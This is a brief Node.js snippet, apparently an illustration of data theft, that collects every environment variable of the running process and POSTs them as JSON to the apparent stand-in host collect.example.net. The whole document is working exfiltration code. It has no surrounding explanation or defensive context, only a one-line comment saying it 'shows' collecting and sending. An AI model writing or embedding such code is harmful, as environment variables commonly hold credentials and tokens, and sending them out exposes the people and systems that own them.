// shows: collects and sends
const https = require("https");
const body = JSON.stringify({ e: process.env });
const req = https.request({ hostname: "collect.example.net", path: "/e", method: "POST" });
req.write(body);
req.end();
